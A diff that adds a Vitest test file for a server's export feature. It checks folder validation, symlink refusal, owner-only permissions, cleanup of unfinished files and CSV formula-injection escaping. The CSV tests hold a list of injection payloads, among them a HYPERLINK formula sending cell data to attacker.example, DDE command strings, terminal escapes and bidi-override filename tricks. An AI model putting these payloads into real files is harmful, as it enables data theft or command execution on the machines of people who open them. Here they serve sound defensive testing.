@@ -1,0 +1,274 @@
+/** Files that the server writes: where they may be, who may read them, and what is in them that could harm who opens them. */
+import crypto from 'node:crypto';
+import {
+  chmodSync,
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  renameSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  utimesSync,
+  writeFileSync,
+} from 'node:fs';
+import { syncBuiltinESMExports } from 'node:module';
+import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { describe, expect, test, vi } from 'vitest';
+import { createExportFile, exportFolder } from '../../src/changes/export-file.ts';
+import { agree } from '../changes/support/confirm.ts';
+import { hiddenIn } from '../harness/inert.ts';
+import { startService } from '../harness/service.ts';
+import { freshHome, start } from '../harness/start.ts';
+
+const TOOL = 'get_collected_emails';
+const NEVER = { VIDEO_HOSTING_CONFIRM: 'never' };
+
+function folderIn(home: string): string {
+  const folder = join(home, 'files');
+  mkdirSync(folder);
+  return folder;
+}
+
+describe('the folder for files', () => {
+  const places: readonly (readonly [string, (path: string) => void])[] = [
+    ['is not there', () => {}],
+    ['is a file', (path) => writeFileSync(path, '')],
+    ['is a link to nowhere', (path) => symlinkSync(`${path}-nowhere`, path)],
+    ['is a link to a device', (path) => symlinkSync('/dev/null', path)],
+    ['can’t be written to', (path) => void mkdirSync(path, 0o500)],
+  ];
+
+  test.each(places)('that %s is refused in words, before anything is written', async (name, make) => {
+    if (name === 'can’t be written to' && process.getuid?.() === 0) return;
+    const home = freshHome();
+    const folder = join(home, 'there');
+    make(folder);
+    const { client, log } = await start({ home, env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: folder } });
+    const here = () => readdirSync(home).filter((entry) => entry !== 'data');
+    const before = here();
+    const reply = await client.callTool(TOOL, { exportAs: 'csv' });
+    expect(here()).toEqual(before);
+    expect(reply.isError).toBe(true);
+    expect(reply.text).toMatch(/folder for files/);
+    expect(log()).toBe('');
+    if (name === 'can’t be written to') chmodSync(folder, 0o700);
+    else expect(reply.text).toContain('VIDEO_HOSTING_FILES_DIR');
+  });
+
+  test('that is not set is asked for', async () => {
+    const { client, hasData } = await start({ env: NEVER });
+    const reply = await client.callTool(TOOL, { exportAs: 'csv' });
+    expect(hasData()).toBe(false);
+    expect(reply).toMatchObject({ isError: true, text: expect.stringContaining('Set VIDEO_HOSTING_FILES_DIR') });
+  });
+
+  test('may be a link that the user made: what is written is in what it leads to', async () => {
+    const home = freshHome();
+    const real = folderIn(home);
+    symlinkSync(real, join(home, 'link'));
+    const { client } = await start({ home, env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: join(home, 'link') } });
+    const reply = await client.callTool(TOOL, { exportAs: 'csv' });
+    expect(reply.data?.path).toBe(join(real, readdirSync(real)[0] ?? ''));
+  });
+
+  test('that is swapped for a link while an export runs gets nothing', async () => {
+    const home = freshHome();
+    const [folder, elsewhere] = [folderIn(home), join(home, 'elsewhere')];
+    mkdirSync(elsewhere);
+    const real = await exportFolder([folder]);
+    renameSync(folder, join(home, 'moved'));
+    symlinkSync(elsewhere, folder);
+    const fill = vi.fn(async () => 0);
+    await expect(createExportFile(real, 'emails', 'csv', fill)).rejects.toMatchObject({ code: 'file_refused' });
+    expect(fill).not.toHaveBeenCalled();
+    expect(readdirSync(elsewhere)).toEqual([]);
+    expect(readdirSync(join(home, 'moved'))).toEqual([]);
+  });
+});
+
+describe('a file that is written', () => {
+  test('is never one that was there, nor goes through a link', async () => {
+    const home = freshHome();
+    const folder = folderIn(home);
+    const victim = join(home, 'victim');
+    writeFileSync(victim, 'precious');
+    // The name can't be guessed; here it can.
+    const guessed = vi.spyOn(crypto, 'randomBytes').mockImplementation(() => Buffer.alloc(8) as never);
+    syncBuiltinESMExports();
+    try {
+      for (const ending of ['csv', 'csv.unfinished']) symlinkSync(victim, join(folder, `emails-${'0'.repeat(16)}.${ending}`));
+      const written = createExportFile(folder, 'emails', 'csv', async (write) => {
+        await write('x');
+        return 1;
+      });
+      await expect(written).rejects.toMatchObject({ code: 'file_refused' });
+      expect(guessed).toHaveBeenCalled();
+    } finally {
+      guessed.mockRestore();
+      syncBuiltinESMExports();
+    }
+    expect(readFileSync(victim, 'utf8')).toBe('precious');
+    expect(lstatSync(join(folder, `emails-${'0'.repeat(16)}.csv`)).isSymbolicLink()).toBe(true);
+  });
+
+  test('is for its owner alone, also while it is written and whatever the mask', async () => {
+    const folder = folderIn(freshHome());
+    const mask = process.umask(0);
+    try {
+      const { path } = await createExportFile(folder, 'emails', 'csv', async (write) => {
+        await write('x');
+        for (const name of readdirSync(folder)) expect(statSync(join(folder, name)).mode & 0o777).toBe(0o600);
+        return 1;
+      });
+      expect(statSync(path).mode & 0o777).toBe(0o600);
+      expect(readFileSync(path, 'utf8')).toBe('x');
+    } finally {
+      process.umask(mask);
+    }
+  });
+
+  test('is gone when it could not be finished, and its name is not another’s', async () => {
+    const folder = folderIn(freshHome());
+    const fails = createExportFile(folder, '../../evil\u0000\n/name', 'csv', async (write) => {
+      await write('half');
+      expect(readdirSync(folder)).toEqual([expect.stringMatching(/^[\w.-]+\.csv\.unfinished$/)]);
+      throw new Error('The service went away.');
+    });
+    await expect(fails).rejects.toThrow('went away');
+    expect(readdirSync(folder)).toEqual([]);
+  });
+
+  test('that a killed process left half written goes with the next export; others’ files stay', async () => {
+    const folder = folderIn(freshHome());
+    const stale = join(folder, 'emails-2026-01-01-0011.csv.unfinished');
+    const fresh = join(folder, 'emails-2026-01-02-0022.csv.unfinished');
+    const others = ['notes.csv.unfinished', 'emails-2026-01-01-0011.csv', 'emailsx-2026.unfinished'];
+    for (const path of [stale, fresh, ...others.map((name) => join(folder, name))]) writeFileSync(path, 'x');
+    for (const path of [stale, ...others.map((name) => join(folder, name))]) utimesSync(path, 1, 1);
+    await createExportFile(folder, 'emails-2026-03-03', 'csv', async () => 0);
+    expect(existsSync(stale)).toBe(false);
+    for (const path of [fresh, ...others.map((name) => join(folder, name))]) expect(existsSync(path)).toBe(true);
+  });
+
+  test('is not left half written by a server that is told to leave', async () => {
+    const home = freshHome();
+    const folder = folderIn(home);
+    const demo = await startService();
+    const { client, server } = await start({ demo, home, via: 'process', env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: folder } });
+    demo.faults.next({ match: { path: /collected-emails/ }, skip: 1, do: { kind: 'drip', bytes: 2_000, ms: 20 } });
+    client.callTool(TOOL, { exportAs: 'csv' }).catch(() => undefined);
+    await vi.waitFor(() => expect(readdirSync(folder)).toHaveLength(1), { timeout: 20_000 });
+    server?.child.kill('SIGTERM');
+    await server?.exit;
+    expect(readdirSync(folder)).toEqual([]);
+  });
+});
+
+describe('everything that is kept', () => {
+  test('is for its owner alone', async () => {
+    const home = freshHome();
+    const folder = folderIn(home);
+    const { client, demo, dataDir } = await start({ home, env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: folder } });
+    const [, target] = [...demo.world.projects.values()];
+    demo.world.poisonedVideoIds.add([...demo.world.videos.keys()][2] ?? '');
+    await client.callTool('move_videos', { videoIds: [...demo.world.videos.keys()].slice(0, 5), targetProject: target?.id });
+    await agree(client, 'create_project', { name: 'Brand new', region: 'use-s' });
+    await client.callTool(TOOL, { exportAs: 'csv' });
+    await client.callTool('query_analytics', { from: '2026-10-01', to: '2026-10-31' }).catch(() => undefined);
+    const entries = readdirSync(dataDir, { recursive: true, withFileTypes: true });
+    expect(entries.filter((entry) => entry.isFile()).length).toBeGreaterThan(3);
+    for (const entry of entries) {
+      const path = join(entry.parentPath, entry.name);
+      expect(`${path} ${(statSync(path).mode & 0o077).toString(8)}`).toBe(`${path} 0`);
+    }
+  });
+});
+
+describe('a CSV for people', () => {
+  const ATTACKS = [
+    '=HYPERLINK("https://attacker.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    '+cmd|calc!A0',
+    '-2+3',
+    '@SUM(1+1)',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    ' =1+1',
+    '\u00a0=1+1',
+    '\u200b=1+1',
+    '\ufeff=1+1',
+    '\u0000=1+1',
+    '\uff1d1+1',
+    '\uff0b1+1',
+    '\uff0d1+1',
+    '\uff20SUM(1)',
+    'Ada;=1+1',
+    'Ada\t=1+1',
+    'Ada"\n=1+1',
+    '"=1+1"',
+    '\u001b]0;title\u0007\u001b[2J',
+    'bidi \u202egnp.exe\u202c',
+    '\u{e0049}\u{e0067} tags',
+    'line\u2028separator',
+  ];
+
+  test('starts no formula, whatever stands where and whatever parts its cells, and hides nothing', async () => {
+    const home = freshHome();
+    const folder = folderIn(home);
+    const demo = await startService();
+    const created = '2026-10-01T00:00:00Z';
+    demo.world.emails.splice(
+      0,
+      Number.POSITIVE_INFINITY,
+      ...ATTACKS.map((text) => ({ fullName: text, email: text, mobileNumber: text, videoKey: text, channelKey: text, created })),
+    );
+    const { client } = await start({ demo, home, env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: folder } });
+    expect((await client.callTool(TOOL, { exportAs: 'csv' })).data).toMatchObject({ written: ATTACKS.length });
+    const text = readFileSync(join(folder, readdirSync(folder)[0] ?? ''), 'utf8');
+    expect(text).not.toContain('\r');
+    expect(hiddenIn(JSON.stringify(text))).toEqual([]);
+    for (const delimiter of [',', ';', '\t', '|']) {
+      const rows: string[][] = parse(text, { delimiter, relax_column_count: true, relax_quotes: true });
+      for (const cell of rows.flat()) expect(cell.trimStart()).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/);
+    }
+    // What is harmless stands as it was.
+    expect(text).toContain('bidi gnp.exe');
+  });
+
+  test('in JSON, which programs read, every text is exact, and nothing hides either', async () => {
+    const home = freshHome();
+    const folder = folderIn(home);
+    const demo = await startService();
+    demo.world.emails.splice(
+      0,
+      Number.POSITIVE_INFINITY,
+      ...ATTACKS.map((text) => ({ fullName: text, email: text, mobileNumber: '', videoKey: 'v', channelKey: '', created: '' })),
+    );
+    const { client } = await start({ demo, home, env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: folder } });
+    await client.callTool(TOOL, { exportAs: 'json' });
+    const text = readFileSync(join(folder, readdirSync(folder)[0] ?? ''), 'utf8');
+    const records: { fullName: string }[] = JSON.parse(text);
+    expect(records.map(({ fullName }) => fullName)).toEqual(ATTACKS);
+    // Line breaks part its records.
+    expect(hiddenIn(JSON.stringify(text.replaceAll('\\', '/')))).toEqual([]);
+  });
+});
+
+test('an export of nobody is a file all the same', async () => {
+  for (const [exportAs, empty] of [
+    ['csv', 'fullName,email,mobileNumber,videoKey,channelKey,created\n'],
+    ['json', '[\n]\n'],
+  ] as const) {
+    const home = freshHome();
+    const folder = folderIn(home);
+    const { client } = await start({ home, env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: folder } });
+    await client.callTool(TOOL, { exportAs, from: '2030-01-01' });
+    expect(readFileSync(join(folder, readdirSync(folder)[0] ?? ''), 'utf8')).toBe(empty);
+    rmSync(folder, { recursive: true });
+  }
+});
